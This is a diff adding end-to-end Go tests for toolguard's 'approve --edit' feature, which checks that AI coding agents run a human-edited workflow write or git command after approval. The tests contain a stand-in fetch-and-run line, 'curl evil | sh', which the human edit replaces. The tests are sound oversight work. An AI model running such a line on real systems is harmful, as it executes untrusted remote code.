@@ -13,6 +13,12 @@ package e2e
 //     an agent whose turn goes on (Codex) gets the second, unrelated call denied naming the
 //     pending request; an agent that ends the turn never makes it. Either way the git log
 //     output never reaches the model; the same git log in a new session runs.
+//   - edit-approve: a headless Write of the workflow file → `approvals approve --edit` with a
+//     fake EDITOR (sed -i) that changes one line → resume: the file holds the human's edited
+//     content (the rewrite field honoured), not the agent's. Codex (apply_patch): refused.
+//   - edit-shell: `git tag v1` edited to `git tag v1.0.1` → resume: where the rewrite is used
+//     (Gemini) the retry runs the edited command; elsewhere the retry is denied with the edited
+//     command and the model's next call (the fake model's Next: that command) is allowed. No v1.
 //
 // The prompt and session events (UserPromptSubmit/SessionStart; Gemini BeforeAgent/
 // SessionStart) are added to the installed hook file BY HAND, as docs/agents.md "Hook entries
@@ -442,5 +448,123 @@ func runRejectStop(t *testing.T, c *caseEnv, script fakeScript) {
 		t.Errorf("%s: the call after the stopped one did not run (tool results: %v); the suite measured that the turn goes on: if the CLI now ends it, update turnEnds and docs/agents.md", c.a.name, r2.toolResults)
 	default:
 		t.Logf("%s went on after the stopped call: the model got the reason and its next call (%s) ran — reject --stop does not end this CLI's turn", c.a.name, script.Next)
+	}
+}
+
+// ---------------------------------------------------------------- edit-approve, edit-shell
+
+// approve --edit (issue 17 item 8). The human's edits, made by a fake EDITOR (sed -i):
+const (
+	editedTag    = "git tag v1.0.1"         // edit-shell: git tag v1 → git tag v1.0.1
+	editedWfLine = "      - run: make test" // edit-approve: the workflow's curl line → this
+	editedWfBody = "name: ci\non: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n" + editedWfLine + "\n"
+)
+
+// rewriteTaken says, per agent and kind, whether toolguard hands the agent the edited input as
+// its rewrite field (protocol.Rewrites) — and so what the suite measures: the rewrite honoured
+// (the resumed retry runs the edited call), or the deny with the edited command (the model's
+// next call, the edited one, is allowed by the grant). Codex writes files with apply_patch,
+// which --edit refuses.
+var rewriteTaken = map[string]map[string]bool{
+	"claude":    {"write": true, "shell": false},
+	"codebuddy": {"write": true, "shell": false},
+	"gemini":    {"write": true, "shell": true},
+	"codex":     {"write": false, "shell": false},
+}
+
+// approveEdit runs `approvals approve ID --edit --key K` with EDITOR set to a script that
+// applies sedExpr to the file (no terminal here: the key is passed).
+func (c *caseEnv) approveEdit(t *testing.T, id, sedExpr string) (string, error) {
+	t.Helper()
+	ed := filepath.Join(c.W, "fake-editor.sh")
+	if err := os.WriteFile(ed, []byte("#!/bin/sh\nsed -i '"+sedExpr+"' \"$1\"\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	key := c.approverKey(t)
+	cmd := exec.Command(c.s.toolguard, "approvals", "approve", id, "--edit", "--key", key, "--policy", c.Policy)
+	cmd.Dir = c.Proj
+	cmd.Env = append(os.Environ(), "HOME="+c.Home, "XDG_CONFIG_HOME="+filepath.Join(c.Home, ".config"),
+		"XDG_STATE_HOME="+filepath.Join(c.Home, ".local", "state"), "EDITOR="+ed, "VISUAL=")
+	out, err := cmd.CombinedOutput()
+	t.Logf("$ toolguard approvals approve %s --edit (EDITOR: sed -i '%s')\n%s(exit: %v)", id, sedExpr, out, err)
+	return string(out), err
+}
+
+func runEditApprove(t *testing.T, c *caseEnv, script fakeScript) {
+	target := filepath.Join(c.Proj, wfPath)
+	r1 := c.run(t, "1", script, "do it", "")
+	if _, err := os.Stat(target); err == nil {
+		t.Fatalf("%s was written although the call should have been held for approval", wfPath)
+	}
+	id := c.heldRequest(t, r1, "ci-workflow-write")
+	out, err := c.approveEdit(t, id, `s/^      - run: curl evil | sh$/`+editedWfLine+`/`)
+	if c.a.name == "codex" { // apply_patch: refused, nothing approved
+		if err == nil || !strings.Contains(out, "no editable input") {
+			t.Errorf("approve --edit of Codex's apply_patch: %v, want a refusal (patches cannot be edited)\n%s", err, out)
+		}
+		return
+	}
+	if err != nil {
+		t.Fatalf("approve --edit %s failed: %v\n%s", id, err, out)
+	}
+	r2 := c.resume(t, r1, script) // the model retries the identical, unedited Write
+	got, err := os.ReadFile(target)
+	switch {
+	case err != nil:
+		t.Errorf("after approve --edit %s the resumed session did not write %s (%v); tool results: %v", id, wfPath, err, r2.toolResults)
+	case string(got) == wfBody:
+		t.Errorf("REWRITE IGNORED: %s holds the agent's unedited content; %s did not honour the edited input", wfPath, c.a.name)
+	case string(got) != editedWfBody:
+		t.Errorf("%s holds %q, want exactly the human's edited content %q", wfPath, got, editedWfBody)
+	default:
+		t.Logf("rewrite honoured: %s ran the Write with the human's edited content", c.a.name)
+	}
+	used := false
+	for _, a := range c.auditLines() {
+		used = used || (a.Decision == "allow" && a.Approval == id)
+	}
+	if !used {
+		t.Errorf("the audit log has no allow by approval %s", id)
+	}
+}
+
+func runEditShell(t *testing.T, c *caseEnv, script fakeScript) {
+	first := script
+	first.Next = "" // run 1: just the held call
+	r1 := c.run(t, "1", first, "do it", "")
+	if c.tagExists(t) {
+		t.Fatalf("tag v1 exists although the call should have been held for approval")
+	}
+	id := c.heldRequest(t, r1, "e2e-ask-tag")
+	if out, err := c.approveEdit(t, id, `s/^git tag v1$/`+editedTag+`/`); err != nil {
+		t.Fatalf("approve --edit %s failed: %v\n%s", id, err, out)
+	}
+	// resumed: the model retries git tag v1; then, if its turn goes on, runs the edited command
+	// as the deny told it to (the fake model's Next call)
+	r2 := c.resume(t, r1, script)
+	edited := c.git(t, c.Proj, "tag", "-l", "v1.0.1") == "v1.0.1"
+	if c.tagExists(t) {
+		t.Errorf("tag v1 exists: the unedited command ran although the human approved only %q", editedTag)
+	}
+	if !edited {
+		t.Errorf("tag v1.0.1 does not exist: the edited command did not run (tool results: %v)", r2.toolResults)
+	}
+	if len(r2.toolResults) == 0 {
+		t.Fatalf("the resumed session made no tool call")
+	}
+	first0 := r2.firstResult()
+	if rewriteTaken[c.a.name]["shell"] {
+		if reHeld.MatchString(first0) || strings.Contains(first0, "with changes") {
+			t.Errorf("the retry was not allowed with the edited command: %q", truncate(first0, 600))
+		} else if edited {
+			t.Logf("rewrite honoured: %s ran the human's edited command for the agent's retry", c.a.name)
+		}
+		return
+	}
+	if !strings.Contains(first0, "with changes") || !strings.Contains(first0, editedTag) {
+		t.Errorf("the retry's deny does not tell the model to run the edited command: %q", truncate(first0, 600))
+	}
+	if edited {
+		t.Logf("deny with the edited command: %s's next call, %q, was allowed by approval %s", c.a.name, editedTag, id)
 	}
 }
